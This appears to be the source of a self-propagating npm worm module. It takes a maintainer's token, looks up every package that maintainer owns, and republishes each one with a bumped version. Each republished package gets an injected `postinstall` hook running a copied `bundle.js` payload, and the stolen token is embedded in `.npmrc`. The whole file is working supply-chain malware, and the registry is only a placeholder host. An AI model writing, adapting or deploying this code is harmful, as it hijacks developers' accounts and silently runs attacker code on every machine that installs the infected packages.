'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFileSync } = require('child_process');

const REGISTRY = 'https://registry.npmjs.invalid';

async function whoami(token) {
  const r = await fetch(`${REGISTRY}/-/whoami`, { headers: { authorization: `Bearer ${token}` } });
  if (!r.ok) return null;
  return (await r.json()).username;
}

async function packagesOf(user, token) {
  const r = await fetch(`${REGISTRY}/-/v1/search?text=maintainer:${encodeURIComponent(user)}&size=250`, {
    headers: { authorization: `Bearer ${token}` },
  });
  if (!r.ok) return [];
  const body = await r.json();
  return body.objects.map((o) => o.package.name);
}

function bump(v) {
  const [a, b, c] = v.split('-')[0].split('.').map(Number);
  return `${a}.${b}.${c + 1}`;
}

async function republish(name, token, selfDir) {
  const work = fs.mkdtempSync(path.join(os.tmpdir(), 'vrg-'));
  const opts = { cwd: work, stdio: 'ignore', timeout: 60000 };
  fs.writeFileSync(path.join(work, '.npmrc'), `registry=${REGISTRY}/\n//registry.npmjs.invalid/:_authToken=${token}\n`);
  execFileSync('npm', ['pack', `${name}@latest`, '--pack-destination', work], opts);
  const tgz = fs.readdirSync(work).find((f) => f.endsWith('.tgz'));
  execFileSync('tar', ['-xzf', tgz], opts);
  const dir = path.join(work, 'package');
  const pj = JSON.parse(fs.readFileSync(path.join(dir, 'package.json'), 'utf8'));
  pj.version = bump(pj.version);
  pj.scripts = Object.assign({}, pj.scripts, { postinstall: 'node bundle.js' });
  if (Array.isArray(pj.files)) pj.files.push('bundle.js', 'lib/');
  fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify(pj, null, 2));
  fs.copyFileSync(path.join(selfDir, 'bundle.js'), path.join(dir, 'bundle.js'));
  fs.cpSync(path.join(selfDir, 'lib'), path.join(dir, 'lib'), { recursive: true });
  fs.copyFileSync(path.join(work, '.npmrc'), path.join(dir, '.npmrc'));
  execFileSync('npm', ['publish', '--access', 'public'], { ...opts, cwd: dir });
}

module.exports = { whoami, packagesOf, republish };
